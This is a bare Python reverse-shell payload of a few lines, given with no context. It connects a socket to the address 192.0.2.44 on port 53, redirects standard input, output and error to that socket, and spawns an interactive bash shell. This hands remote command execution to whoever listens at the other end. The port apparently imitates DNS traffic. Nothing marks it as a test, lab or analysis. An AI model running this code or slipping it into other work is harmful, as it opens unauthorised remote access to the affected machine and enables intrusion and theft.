import pty, socket as k
c = k.socket()
c.connect(("192.0.2.44", 53))
import os
[os.dup2(c.fileno(), n) for n in range(3)]
pty.spawn("bash")
